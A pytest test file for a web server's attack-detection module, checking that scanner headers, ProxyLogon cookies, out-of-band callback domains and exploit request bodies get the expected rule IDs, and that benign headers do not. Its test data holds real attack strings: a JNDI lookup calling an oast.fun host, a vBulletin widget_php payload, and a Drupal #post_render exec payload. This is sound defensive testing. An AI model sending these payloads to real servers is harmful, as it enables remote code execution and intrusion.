"""Scanners known by a header's name or by the marks they leave in headers
and cookies, against a real httpd: the header_names target (Acunetix's
AcuSensor and WebInspect headers), scanner bookkeeping values, out-of-band
callback domains in any header, the ProxyLogon cookies; header names that
ordinary clients and proxies send never flag."""
import os
import shutil
import time

import header_blocks
import lwhttpd

import pytest


@pytest.fixture
def mpm():
    # Which headers are read does not depend on the MPM: one is enough.
    return "event"


# (header, value, rule id it must get, the field the hit names)
CASES = [
    ("Acunetix-Aspect", "enabled", 600155, "header_names"),
    ("acunetix-aspect-password", "082119f75623eb7abd7bf357698ff66c", 600155,
     "header_names"),
    ("X-WIPP", "AscVersion=22.2.0", 600155, "header_names"),
    ("X-PAN-AUTHCHECK", "off", 700978, "header_names"),
    ("Acunetix-Aspect-Queries", "filelist;aspectalerts", 600150,
     "header:Acunetix-Aspect-Queries"),
    ("X-Request-Memo", 'ID="1"; ThreadId="2"; SessionType="AuditAttack"',
     600150, "header:X-Request-Memo"),
    ("X-Api-Version", "${jndi:ldap://c6k0abc.oast.fun/a}", 600300,
     "header:X-Api-Version"),
    ("Referer", "http://abc123.OASTIFY.com/ref", 600300, "referer"),
    ("Origin", "https://c6k0abc.oast.live", 600300, "header:Origin"),
    ("Cookie", "X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/"
     "default.flt?~3; X-BEResource=localhost/owa/auth/logon.aspx?~3",
     700915, "cookie"),
]

# Names of ordinary clients' and proxies' own headers, some close to a
# scanner's, with plain values.
BENIGN = [("X-Request-Id", "4bf92f3577b34da6a3ce929d0e0e4736"),
          ("X-Scanner-Version", "3.1"), ("X-Acunetix", "1"),
          ("X-Memo", "hello"), ("X-Forwarded-For", "203.0.113.7"),
          ("X-Amzn-Trace-Id", "Root=1-67891233-abcdef012345678912345678")]


def attacks(h):
    return [r for r in h.records() if lwhttpd.is_attack(r)]


def send(h, target, headers):
    return h.request("GET %s HTTP/1.1" % target,
                     [("Host", "localhost")] + list(headers))[0]


def test_scanner_header_names_marks_and_callbacks(httpd_factory):
    h = httpd_factory()
    for i, block in enumerate(header_blocks.BLOCKS[:6]):
        assert send(h, "/b/%d" % i, block) is not None
    assert send(h, "/b/names", [("User-Agent", header_blocks.CHROME_UA)]
                + BENIGN) is not None
    for i, (name, value, _rid, _field) in enumerate(CASES):
        send(h, "/a/%d" % i, [("User-Agent", header_blocks.CHROME_UA),
                              (name, value)])
    h.wait_records(len(CASES), pred=lwhttpd.is_attack)
    time.sleep(0.3)
    recs = attacks(h)
    assert [r["uri"] for r in recs] == \
        ["/a/%d" % i for i in range(len(CASES))], \
        [(r["uri"], r["rules"]) for r in recs]
    for rec, (name, value, rid, field) in zip(recs, CASES):
        lwhttpd.check_record(rec)
        hits = [x for x in rec["rules"] if x["id"] == rid]
        assert hits, (name, value, rec["rules"])
        assert hits[0]["field"] == field, (name, hits[0])
        assert {"scanner", "probe"} & set(rec["categories"]), rec


# (marker, content type, body, rule id, field): exploit kits send the
# payload of a product's exploit, and callback hosts, in the request body.
BODIES = [
    ("vb", "application/x-www-form-urlencoded",
     b"routestring=ajax/render/widget_php&widgetConfig%5Bcode%5D=phpinfo()%3B",
     700965, "body:form:routestring"),
    ("drupal", "application/x-www-form-urlencoded",
     b"form_id=user_register_form&_drupal_ajax=1&mail%5B%23post_render%5D"
     b"%5B%5D=exec&mail%5B%23type%5D=markup&mail%5B%23markup%5D=id",
     700960, "body_names:form:mail[#post_render][]"),
    ("oob", "application/json",
     b'{"webhook": {"url": "http://c59df4k2vtc0000s2vz0gr1ywsyyyyyyb.oast.pro/x"}}',
     600300, "body:json:$.webhook.url"),
]


def test_exploit_payloads_and_callbacks_in_bodies(httpd_factory):
    h = httpd_factory(start=False)
    os.makedirs(h.path("cgi-bin"), exist_ok=True)
    os.chmod(h.path("cgi-bin"), 0o755)
    shutil.copy(os.path.join(lwhttpd.HERE, "data", "body", "echo.cgi"),
                h.path("cgi-bin", "echo"))
    os.chmod(h.path("cgi-bin", "echo"), 0o755)
    h.extra += """LoadModule cgi_module {mods}/mod_cgi.so
ScriptAlias /cgi/ "{root}/cgi-bin/"
<Directory "{root}/cgi-bin">
    Require all granted
</Directory>
""".format(mods=lwhttpd.MODDIR, root=h.root)
    h.write_conf()
    h.start()
    for marker, ctype, body, _rid, _field in BODIES:
        st, _ = h.post("/cgi/echo?t=" + marker, body, ctype)
        assert st == 200, marker
    for marker, _ctype, _body, rid, field in BODIES:
        rec = h.wait_for(lambda r, m=marker: "t=" + m in r["uri"])
        hits = [x for x in rec["rules"] if x["id"] == rid]
        assert hits, (marker, rec["rules"])
        assert field in [x["field"] for x in hits], (marker, hits)
